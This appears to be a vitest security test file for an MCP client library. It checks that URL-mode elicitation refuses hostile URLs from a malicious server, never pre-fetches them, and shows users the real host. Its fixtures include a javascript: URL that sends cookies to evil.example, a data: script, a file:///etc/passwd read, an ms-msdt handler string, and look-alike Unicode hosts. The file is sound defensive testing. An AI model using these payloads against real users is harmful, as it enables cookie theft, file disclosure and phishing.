import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { createUrlElicitation, ERR, McpAuthError, type UrlElicitationOptions, type UrlElicitationPrompt } from '@mcp-auth-kit/client';
import {
  startV1ElicitingServer,
  startV2ElicitingServer,
  type ElicitingServer,
} from '../../packages/client/test/helpers/eliciting-servers.js';

/**
 * Safe URL handling of URL-mode elicitation (MCP 2025-11-25 client/elicitation §Safe URL Handling,
 * §Security Considerations; issue 41): a hostile MCP server asks the client to open a page, by
 * each of the three ways a server can (a -32042 error, a server-initiated `elicitation/create`,
 * a 2026-07-28 `InputRequiredResult`). Whatever it names, the client:
 *  - opens only https, or http to a loopback host: `javascript:`, `data:`, `file:`, `vbscript:`,
 *    OS protocol handlers and plain http elsewhere are refused before the user is even asked;
 *  - refuses a URL with a user name or password (`https://trusted@evil/` shows one host and opens
 *    another) and one too long to be examined;
 *  - never fetches the URL itself (MUST NOT pre-fetch), also when the user says no: a loopback
 *    canary listener named by the URLs must see no connection at all;
 *  - shows the host the browser would really reach (the parser's host, punycode for an
 *    internationalized name, flagged), never a look-alike.
 * Every server runs on 127.0.0.1; the non-loopback hosts below are never connected to.
 */

let canary: Server;
let canaryHits = 0;
let canaryHost = '';

beforeAll(async () => {
  canary = createServer((_req, res) => {
    res.end('canary');
  });
  canary.on('connection', () => canaryHits++);
  await new Promise<void>((r) => canary.listen(0, '127.0.0.1', r));
  canaryHost = `127.0.0.1:${(canary.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((r) => canary.close(() => r()));
});

let running: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const r of running.reverse()) await r.close();
  running = [];
});

const hostile = (): Record<string, string> => ({
  javascript: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
  'javascript (case, tab)': 'JaVa\tScRiPt:alert(1)',
  data: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  file: 'file:///etc/passwd',
  vbscript: 'vbscript:msgbox(1)',
  'OS protocol handler': 'ms-msdt:/id PCWDiagnostic /skip force',
  'http to a public host': 'http://drive.example/connect/1',
  'http to a private address': 'http://10.1.2.3/connect',
  'credentials, loopback canary': `http://user:secret@${canaryHost}/connect`,
  'user name that looks like the host': `http://drive.example@${canaryHost}/connect`,
  'credentials over https': 'https://drive.example:pw@evil.example/connect',
  'too long to read': `http://${canaryHost}/connect?pad=${'x'.repeat(5000)}`,
});

/** A user who would accept anything: the client must not even ask them about these URLs. */
function trustingUser() {
  const asked: UrlElicitationPrompt[] = [];
  const opened: URL[] = [];
  const refused: McpAuthError[] = [];
  const options: UrlElicitationOptions = {
    onUrlElicitation: async (prompt) => {
      asked.push(prompt);
      return 'accept';
    },
    openUrl: async (url) => {
      opened.push(url);
    },
    onRefused: (err) => void refused.push(err),
    waitForCompletion: async () => undefined,
    completionTimeoutMs: 1000,
  };
  return { options, asked, opened, refused };
}

/** The client answered for the user: told `onRefused` once, never asked, never opened. */
function refusedUnasked(u: ReturnType<typeof trustingUser>, name: string) {
  expect(
    u.refused.map((e) => e.code),
    name,
  ).toEqual([ERR.ELICITATION_REFUSED]);
  expect(u.asked, name).toEqual([]);
  expect(u.opened, name).toEqual([]);
}

async function connect(s: ElicitingServer, wire: '2025-11-25' | '2026-07-28', options: UrlElicitationOptions) {
  const client = new Client({ name: 'attack', version: '1' }, wire === '2026-07-28' ? { versionNegotiation: { mode: { pin: wire } } } : {});
  const elicitation = createUrlElicitation(options);
  elicitation.attach(client);
  await client.connect(new StreamableHTTPClientTransport(new URL(s.url)));
  running.push(client);
  return (tool: string) => elicitation.call(() => client.callTool({ name: tool, arguments: {} }));
}

async function v1(url: string) {
  const s = await startV1ElicitingServer();
  running.push(s);
  s.url_override = url;
  return s;
}

describe('a hostile URL is never shown as openable nor opened', () => {
  it('-32042 URL elicitation required: refused with MCP_AUTH_ELICITATION_REFUSED, the user not asked, the call not retried', async () => {
    for (const [name, url] of Object.entries(hostile())) {
      const s = await v1(url);
      const u = trustingUser();
      const call = await connect(s, '2025-11-25', u.options);
      const err = await call('files').catch((e: unknown) => e);
      expect(err, name).toBeInstanceOf(McpAuthError);
      expect((err as McpAuthError).code, name).toBe(ERR.ELICITATION_REFUSED);
      expect((err as McpAuthError).message, name).not.toContain('secret');
      expect(u.asked, name).toEqual([]);
      expect(u.opened, name).toEqual([]);
      expect(s.calls, name).toHaveLength(1);
    }
    expect(canaryHits).toBe(0);
  });

  it('server-initiated elicitation/create: answered decline without asking, onRefused told why', async () => {
    for (const [name, url] of Object.entries(hostile())) {
      const s = await v1(url);
      const u = trustingUser();
      const call = await connect(s, '2025-11-25', u.options);
      expect((await call('ask')).content, name).toEqual([{ type: 'text', text: 'answer: decline' }]);
      refusedUnasked(u, name);
    }
    expect(canaryHits).toBe(0);
  });

  it('2026-07-28 InputRequiredResult: the retry carries decline, nothing is asked or opened', async () => {
    // what the SDK v2 server lets a tool put in an elicitUrl (it must parse as a URL)
    const names = ['javascript', 'data', 'file', 'vbscript', 'http to a public host', 'credentials, loopback canary', 'too long to read'];
    for (const name of names) {
      const s = await startV2ElicitingServer();
      running.push(s);
      s.url_override = hostile()[name]!;
      const u = trustingUser();
      const call = await connect(s, '2026-07-28', u.options);
      const result = await call('files');
      expect(result.content, name).toEqual([{ type: 'text', text: 'not connected: decline' }]);
      expect(s.calls[1]?.inputResponses, name).toEqual({ connect: { action: 'decline' } });
      refusedUnasked(u, name);
    }
    expect(canaryHits).toBe(0);
  });
});

describe('what the user is shown', () => {
  it('no pre-fetch: a URL the user declines is never contacted by the client', async () => {
    const s = await v1(`http://${canaryHost}/connect/abc`);
    const asked: UrlElicitationPrompt[] = [];
    const call = await connect(s, '2025-11-25', {
      onUrlElicitation: async (p) => {
        asked.push(p);
        return 'decline';
      },
      openUrl: async () => expect.unreachable('declined: never opened'),
    });
    expect(((await call('files').catch((e: unknown) => e)) as McpAuthError).code).toBe(ERR.ELICITATION_DECLINED);
    expect(asked.map((p) => p.host)).toEqual([canaryHost]);
    expect(canaryHits).toBe(0);
  });

  it('look-alike hosts are shown as the host the browser reaches: the whole name, punycode for Unicode, flagged', async () => {
    const cases: [string, string, boolean][] = [
      ['https://drive.example.com.evil.example/connect', 'drive.example.com.evil.example', false],
      ['https://drive.example.com%2F@evil.example/connect', '', false], // a user name: refused (empty host: refused)
      ['https://\u0430pple.com/login', 'xn--pple-43d.com', true], // Cyrillic а
      ['https://ex\u00e0mple.com/connect', 'xn--exmple-jta.com', true],
      ['https://drive\uff0eexample/connect', 'drive.example', false], // a fullwidth full stop is a dot to the parser: the real host
      ['https://drive\u2024example/connect', '', false], // one dot leader: not a valid host, refused
      ['https://DRIVE.EXAMPLE:443/connect', 'drive.example', false],
    ];
    for (const [url, host, punycode] of cases) {
      const s = await v1(url);
      const asked: UrlElicitationPrompt[] = [];
      const call = await connect(s, '2025-11-25', {
        onUrlElicitation: async (p) => {
          asked.push(p);
          return 'decline';
        },
      });
      const err = (await call('files').catch((e: unknown) => e)) as McpAuthError;
      if (host === '') {
        expect(err.code, url).toBe(ERR.ELICITATION_REFUSED);
        expect(asked, url).toEqual([]);
        continue;
      }
      expect(err.code, url).toBe(ERR.ELICITATION_DECLINED);
      expect(
        asked.map((p) => [p.host, p.punycode]),
        url,
      ).toEqual([[host, punycode]]);
    }
  });
});
